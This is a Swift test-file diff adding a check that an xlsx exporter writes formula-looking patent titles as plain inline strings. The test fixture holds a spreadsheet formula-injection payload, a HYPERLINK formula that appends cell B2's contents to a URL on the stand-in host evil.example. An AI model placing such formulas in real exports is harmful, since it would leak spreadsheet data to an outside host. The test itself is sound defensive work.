@@ -46,6 +46,24 @@ func writeFile(_ type: ExportType, _ codes: String, _ records: [ExportRecord], l
                           "widths": [sheet.column_dimensions[k].width for k in ["A", "B"]]}))
         """
 
+    /// xlsx cells are inline strings, never formulas: a formula-looking title reads back as
+    /// the text, with no `<f>` element in the sheet.
+    @Test func formulaLookingTextStaysText() throws {
+        let path = try writeFile(.xls, "PN,TTL,IN", [ExportWriterTests.formulaPatent()])
+        defer { try? FileManager.default.removeItem(atPath: path) }
+        let reader = """
+            import json, sys, openpyxl
+            sheet = openpyxl.load_workbook(sys.argv[1]).active
+            print(json.dumps([[c.value, c.data_type] for c in sheet[2]]))
+            """
+        let cells = try #require(try JSONSerialization.jsonObject(with: Data(try run(python, ["-c", reader, path]).utf8)) as? [[String]])
+        #expect(cells.map { $0[0] } == ["US1234567B1", #"=HYPERLINK("http://evil.example/?"&B2,"click")"#, "+1 Smith | Jones"])
+        #expect(cells.map { $0[1] } == ["s", "s", "s"], "every cell a string, none a formula ('f')")
+        let sheet = try run("/usr/bin/unzip", ["-p", path, "xl/worksheets/sheet1.xml"])
+        #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
+        #expect(sheet.contains("inlineStr"))
+    }
+
     @Test func openpyxlReadsValuesDatesHeaderAndPanes() throws {
         var long = samplePatent()
         var patent = long.patent
